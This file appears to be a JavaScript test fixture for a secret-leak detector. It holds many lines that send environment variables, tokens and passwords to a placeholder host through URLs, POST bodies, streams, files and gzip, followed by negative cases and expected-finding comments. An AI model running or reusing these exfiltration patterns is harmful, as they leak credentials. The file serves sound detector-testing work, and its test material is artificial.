const fs = require('fs');
const zlib = require('zlib');
const { Readable } = require('stream');
const base = 'https://example.org/';
const post = (body) => ({ method: 'POST', body });

(async () => {
    // in addresses
    const url = new URL(base);
    url.searchParams.set('k', process.env.SERVICE_TOKEN);
    await fetch(url);
    const other = new URL(base);
    other.pathname = '/' + process.env.SERVICE_PASSWORD;
    await fetch(other.href);
    const query = new URLSearchParams();
    for (const name in process.env) query.append(name, process.env[name]);
    await fetch(base + '?' + query);

    // in objects, lists and maps
    const out = {};
    for (const name in process.env) {
        out[name] = process.env[name];
    }
    await fetch(base, post(JSON.stringify(out)));
    const lines = [];
    Object.keys(process.env).forEach((name) => lines.push(name + process.env[name]));
    await fetch(base, post(lines.join('\n')));
    const map = new Map(Object.entries(process.env));
    await fetch(base, post(JSON.stringify([...map])));
    const copy = Object.assign({}, process.env);
    await fetch(base, post(JSON.stringify(copy)));
    const options = { method: 'POST' };
    options.body = process.env.SERVICE_TOKEN;
    await fetch(base, options);

    // in streams, files and bytes
    const stream = new ReadableStream({
        start(controller) {
            controller.enqueue(new TextEncoder().encode(JSON.stringify(process.env)));
            controller.close();
        },
    });
    await fetch(base, { method: 'POST', body: stream, duplex: 'half' });
    await fetch(base, { method: 'POST', body: Readable.from([JSON.stringify(process.env)]) });
    fs.writeFileSync('vars.json', JSON.stringify(process.env));
    await fetch(base, post(fs.readFileSync('vars.json')));
    await fetch(base, post(zlib.gzipSync(JSON.stringify(process.env))));

    // nothing secret is sent
    const language = new URL(base);
    language.searchParams.set('q', process.env.LANG);
    await fetch(language);
    const settings = { url: base };
    settings.token = process.env.SERVICE_TOKEN;
    await fetch(settings.url, { headers: { Authorization: settings.token } });
    const headers = new Headers();
    headers.set('Authorization', 'Bearer ' + process.env.SERVICE_TOKEN);
    await fetch(base, { headers });
    const names = [];
    for (const name of ['LANG', 'TZ']) names.push(process.env[name]);
    await fetch(base, { method: 'POST', body: names.join(',') });
    fs.writeFileSync('length.txt', String(process.env.SERVICE_TOKEN.length > 10));
    await fetch(base, { method: 'POST', body: fs.readFileSync('other.txt') });
})();
// expect 11 any.secret-sent
// expect 14 any.secret-sent
// expect 17 any.secret-sent
// expect 24 any.secret-sent
// expect 27 any.secret-sent
// expect 29 any.secret-sent
// expect 31 any.secret-sent
// expect 34 any.secret-sent
// expect 43 any.secret-sent
// expect 44 any.secret-sent
// expect 46 any.secret-sent
// expect 47 any.secret-sent
